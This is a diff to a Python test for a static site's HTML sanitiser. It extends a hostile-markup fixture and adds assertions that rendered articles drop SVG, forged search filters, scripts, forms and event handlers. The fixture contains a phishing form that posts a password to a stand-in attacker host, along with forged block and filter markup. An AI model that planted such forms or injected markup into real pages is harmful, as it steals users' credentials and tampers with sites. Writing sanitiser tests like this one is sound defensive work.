@@ -144,6 +144,8 @@ HOSTILE_EXPLAINER = """\
     <form action="https://evil.example/steal" method="post"><input name="password" placeholder="Your password"><button>Sign in</button></form>
 
     An outside [link](https://example.org/story) and an inside [[northcom]] [@tweet].
+
+    A forged block &#xe010;0&#xe011;, a search filter <span data-pagefind-filter="topic">forged</span> and a drawing <svg><rect width="9"/></svg> [@tweet].
     """
 
 
@@ -184,6 +186,9 @@ def hostile_site(tmp_path_factory) -> Path:
 def test_raw_html_in_an_explainer_passes_an_allow_list(hostile_site):
     html = (hostile_site / "explainers/hostile/index.html").read_text()
     article = BeautifulSoup(html, "html.parser").select_one("article")
+    # Nor can an editor's text pull in a block of the page's own HTML, add a search filter, or draw.
+    assert len(article.select("h1")) == 1 and article.select("svg, rect") == []
+    assert [span for span in article.select("[data-pagefind-filter]") if not span.find_parent(class_="ar-facets")] == []
     assert article.select("script, iframe, style, input, button, form[action], form[method]") == []
     assert not any(attr.startswith("on") for tag in article.find_all(True) for attr in tag.attrs)
     assert not any("javascript:" in (a.get("href") or "") for a in article.select("a"))
